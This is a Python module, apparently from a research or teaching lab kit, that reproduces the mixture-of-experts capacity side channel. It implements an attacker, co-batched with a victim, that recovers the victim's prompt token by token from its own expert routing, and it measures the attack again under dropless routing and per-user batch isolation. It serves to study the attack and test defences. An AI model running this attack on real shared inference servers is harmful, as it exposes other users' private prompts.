"""Requests that leak into each other: the MoE capacity side channel (Yona et al., arXiv 2410.22884), small.

With expert-choice routing every expert takes its C best tokens *of the whole batch*, so whether one
request's token gets an expert depends on the other requests' tokens. When two tokens have exactly the
same router score, the earlier one in the batch wins the last slot. Two tokens have exactly the same score
when they are the same token after the same prefix (the model is causal): so an attacker who guesses the
victim's next token can tell, from its own output, whether the guess tied with the victim's token.

    the victim's secret:            s_0 s_1 ... s_{M-1}       (its request sits in the batch)
    the attacker, for position i:   probe = s_0..s_{i-1} g  + filler to length M     (n copies of it)
        layout A: [victim, probe x n, fillers]  victim first: on a tie it takes the slot before the copies
        layout B: [probe x n, victim, fillers]  copies first
        fillers (one-token requests scoring above / below the guess) put expert e*'s last slot among the copies
        copies of the probe that expert e* took:   n_B - n_A = 1  if g == s_i (a tie),  0 otherwise
    2 batched forwards a guess; guesses in the order the model itself finds likely after s_0..s_{i-1}

What the attacker observes is only its own rows of the MoE layer's output; being white-box (it has the
weights, as in the paper) it solves out = sum_e w_e * expert_e(x) for the weights w and reads off whether
expert e* processed each copy. Mitigations re-measured with the same attacker: dropless token-choice
routing (no capacity, nothing to win) and per-user batch isolation (the victim is never in its batch).

    python -m labkit.moe_leak                     # recovery rate and queries per token, with mitigations
"""
from __future__ import annotations

import dataclasses
import math
import time

import torch

from labkit.moe import SparseMoeBlock, capacity, moe_blocks
from labkit.kv_cache import NoCache

DEFENCES = ("none", "dropless", "isolate_users")


@torch.no_grad()
def moe_input(model, ids: torch.Tensor, layer: int = 0) -> torch.Tensor:
    """What a request's tokens bring to layer ``layer``'s MoE block, the request run alone: ids (T,) -> (T, H).
    ids (B, T) -> (B, T, H) runs B requests of one length side by side."""
    squeeze = ids.dim() == 1
    ids = ids[None] if squeeze else ids
    positions = torch.arange(ids.shape[1]).expand(ids.shape)
    h = model.model.embed_tokens(ids)
    cos, sin = model.model.rotary_emb(positions, h.dtype)
    cache = NoCache()
    for i, block in enumerate(model.model.layers[: layer + 1]):
        h = h + block.self_attn(block.input_layernorm(h), cos, sin, positions, cache, i)
        if i == layer:
            out = block.post_attention_layernorm(h)
            return out[0] if squeeze else out
        h = h + block.block_sparse_moe(block.post_attention_layernorm(h))
    raise AssertionError("unreachable")


@dataclasses.dataclass
class Server:
    """Serves one MoE layer to a batch of requests. ``defence``: none (expert choice with a capacity),
    dropless (token choice, no capacity), isolate_users (expert choice, but each user's requests are routed
    in a batch of their own)."""
    block: SparseMoeBlock
    defence: str = "none"
    capacity_factor: float = 1.0
    queries: int = 0

    def __post_init__(self):
        if self.defence not in DEFENCES:
            raise ValueError(f"defence must be one of {DEFENCES}, got {self.defence!r}")

    @torch.no_grad()
    def forward(self, requests: list[tuple[str, torch.Tensor]]) -> list[torch.Tensor]:
        """requests: (user, x (T, H)) in batch order -> each request's output rows, in the same order."""
        self.queries += 1
        b = self.block
        saved = b.routing, b.capacity_factor
        b.routing, b.capacity_factor = ("token_choice", None) if self.defence == "dropless" else (
            "expert_choice", self.capacity_factor)
        groups = [list(range(len(requests)))]
        if self.defence == "isolate_users":
            users = list(dict.fromkeys(u for u, _ in requests))
            groups = [[i for i, (u, _) in enumerate(requests) if u == user] for user in users]
        out: list[torch.Tensor | None] = [None] * len(requests)
        for g in groups:
            y = b(torch.cat([requests[i][1] for i in g]))  # one routing decision for the group's tokens
            for i, part in zip(g, torch.split(y, [requests[i][1].shape[0] for i in g])):
                out[i] = part
        b.routing, b.capacity_factor = saved
        return out


def expert_weights(block: SparseMoeBlock, x: torch.Tensor, outs: torch.Tensor) -> torch.Tensor:
    """(R, E) w solving outs[r] = sum_e w[r, e] * expert_e(x) by least squares, for R output rows of one input
    row x (H,): how much of each expert each row received. A white-box attacker reads its own routing this
    way (w = 0 for an expert that dropped the token)."""
    with torch.no_grad():
        basis = torch.stack([ex(x[None])[0] for ex in block.experts], 1).double()  # (H, E)
    return torch.linalg.lstsq(basis, outs.double().t()).solution.t()  # (R, E)


@dataclasses.dataclass
class Probe:
    """One guess: the batch layouts and what the attacker expects."""
    copies: int
    low_fillers: int
    high_fillers: int
    target_expert: int


def plan_probe(block: SparseMoeBlock, probe_x: torch.Tensor, pos: int, victim_len: int, filler_probs: torch.Tensor,
               capacity_factor: float, max_copies: int | None = None) -> Probe | None:
    """Choose expert e*, copies and fillers so that e*'s last slot falls among the copies whatever the victim's
    other tokens do: with D = C - (attacker tokens ranked above the guess), need victim_len <= D <= copies."""
    probs = torch.softmax(block.gate(probe_x).float(), -1)  # (M, E), the attacker's own tokens, computed alone
    for e_star in probs[pos].argsort(descending=True).tolist():  # the guess's likeliest expert first
        plan = _plan_for_expert(probs, filler_probs, pos, e_star, victim_len, block, capacity_factor, max_copies)
        if plan is not None:
            return plan
    return None


def _plan_for_expert(probs, filler_probs, pos, e_star, m, block, capacity_factor, max_copies):
    s_g = float(probs[pos, e_star].detach())
    margin = 1e-4  # the attacker's own scores computed alone may differ in the last bits from the batch's
    ahead_per_copy = int((probs[:, e_star] > s_g + margin).sum())
    has_high = bool((filler_probs[:, e_star] > s_g + margin).any())
    has_low = bool((filler_probs[:, e_star] < s_g - margin).any())
    e, k = block.num_experts, block.top_k
    for copies in range(m, max_copies or 4 * m):
        for high_f in range(0, 16 * m + 1 if has_high else 1):
            ahead = copies * ahead_per_copy + high_f  # the attacker's tokens ranked above the guess
            base = m * (copies + 1) + high_f
            # fewest low fillers that lift the capacity to ahead + m: ceil(cf * T * k / E) >= need
            need = ahead + m
            low_f = max(0, math.floor((need - 1) * e / (capacity_factor * k)) + 1 - base)
            while low_f > 0 and capacity(base + low_f - 1, k, e, capacity_factor) >= need:
                low_f -= 1
            while capacity(base + low_f, k, e, capacity_factor) < need:
                low_f += 1
            if low_f and not has_low:
                continue
            d = capacity(base + low_f, k, e, capacity_factor) - ahead
            if m <= d <= copies:
                return Probe(copies, low_f, high_f, e_star)
    return None


@dataclasses.dataclass
class AttackResult:
    secret: list[int]
    recovered: list[int]
    confirmed: list[bool]
    queries: int
    guesses_per_token: list[int]
    seconds: float
    tried: list[list[int]]  # the guesses tested at each position, in order

    @property
    def recovery_rate(self) -> float:
        return sum(int(a == b) and c for a, b, c in zip(self.recovered, self.secret, self.confirmed)) / len(self.secret)

    @property
    def queries_per_token(self) -> float:
        return self.queries / len(self.secret)


@torch.no_grad()
def run_attack(model, secret: list[int], defence: str = "none", capacity_factor: float = 1.0,
               max_guesses: int = 64, filler_token: int = 0, candidates=None) -> AttackResult:
    """Recover ``secret`` token by token through layer 0's expert capacity (see the module docstring).

    Guesses at each position are the model's ``max_guesses`` likeliest next tokens after what is known so far,
    or ``candidates(pos, known) -> list of token ids`` if given. An unconfirmed position is filled with the
    first guess and the attack goes on (the later positions then rarely tie)."""
    blocks = moe_blocks(model)
    if not blocks:
        raise ValueError("the capacity side channel needs an MoE model (data/model_moe)")
    block = blocks[0]
    saved = block.routing, block.capacity_factor
    server = Server(block, defence, capacity_factor)
    m = len(secret)
    victim_x = moe_input(model, torch.tensor(secret))
    vocab = model.config.vocab_size
    filler_x = moe_input(model, torch.arange(vocab)[:, None])[:, 0]  # (V, H): one-token requests
    filler_probs = torch.softmax(block.gate(filler_x).float(), -1)
    known: list[int] = []
    confirmed, guesses_used, tried_all = [], [], []
    t0 = time.perf_counter()
    for pos in range(m):
        if candidates is None:  # the attacker's prior: the model's own next-token guess
            context = torch.tensor([filler_token] + known)
            prior = model(context[None])[0, -1].argsort(descending=True)[:max_guesses].tolist()
        else:
            prior = list(candidates(pos, known))
        found = None
        tried = 0
        tried_all.append([])
        for g in prior:
            ids = torch.tensor(known + [g] + [filler_token] * (m - pos - 1))  # same length as the victim's
            probe_x = moe_input(model, ids)
            plan = plan_probe(block, probe_x, pos, m, filler_probs, capacity_factor)
            if plan is None:
                continue
            tried += 1
            tried_all[-1].append(g)
            e = plan.target_expert
            high_tok = int(filler_probs[:, e].argmax())
            low_tok = int(filler_probs[:, e].argmin())
            fillers = [("attacker", filler_x[high_tok:high_tok + 1])] * plan.high_fillers + \
                      [("attacker", filler_x[low_tok:low_tok + 1])] * plan.low_fillers
            copies = [("attacker", probe_x)] * plan.copies
            victim = [("victim", victim_x)]
            counts = []
            for layout in (victim + copies + fillers, copies + victim + fillers):
                outs = server.forward(layout)
                first = 1 if layout[0][0] == "victim" else 0
                rows = torch.stack([outs[first + c][pos] for c in range(plan.copies)])  # the copies' guess rows
                counts.append(int((expert_weights(block, probe_x[pos], rows)[:, e] > 1e-3).sum()))
            if counts[1] - counts[0] == 1:
                found = g
                break
        guesses_used.append(tried)
        confirmed.append(found is not None)
        known.append(found if found is not None else prior[0])
    block.routing, block.capacity_factor = saved
    return AttackResult(list(secret), known, confirmed, server.queries, guesses_used, time.perf_counter() - t0,
                        tried_all)


def main(argv: list[str] | None = None) -> dict:
    import argparse

    from labkit.checkpoint import DEFAULT_MODEL_DIR, load_pretrained

    parser = argparse.ArgumentParser(description="MoE capacity side channel: recover a co-batched victim's prompt.")
    parser.add_argument("--model", default=str(DEFAULT_MODEL_DIR.parent / "model_moe"))
    parser.add_argument("--secret", default="I am sure you are engaged to Mr. Darcy")
    parser.add_argument("--max-guesses", type=int, default=256)
    parser.add_argument("--capacity-factor", type=float, default=1.0)
    ns = parser.parse_args(argv)
    model, tok = load_pretrained(ns.model)
    secret = tok.encode(ns.secret)
    print(f"victim's secret: {ns.secret!r} = {len(secret)} tokens; attacker co-batched, white-box, "
          f"expert-choice routing in layer 0 (capacity factor {ns.capacity_factor})")
    out = {}
    undefended = None
    for defence in DEFENCES:
        # the defences face the same attacker: it tests the guesses it tested against no defence (which
        # include the right token wherever that attack succeeded), so a failure is the defence's doing
        replay = None if undefended is None else (lambda pos, known: undefended.tried[pos])
        r = run_attack(model, secret, defence, ns.capacity_factor, ns.max_guesses, candidates=replay)
        undefended = undefended or r
        out[defence] = dataclasses.asdict(r) | {"recovery_rate": r.recovery_rate, "queries_per_token": r.queries_per_token}
        print(f"defence {defence:>13}: recovered {r.recovery_rate:6.1%} of tokens (confirmed by the side channel), "
              f"{r.queries_per_token:6.1f} queries/token, {r.seconds:.1f} s; attacker's reading: "
              f"{tok.decode(r.recovered)!r}")
    return out


if __name__ == "__main__":
    main()
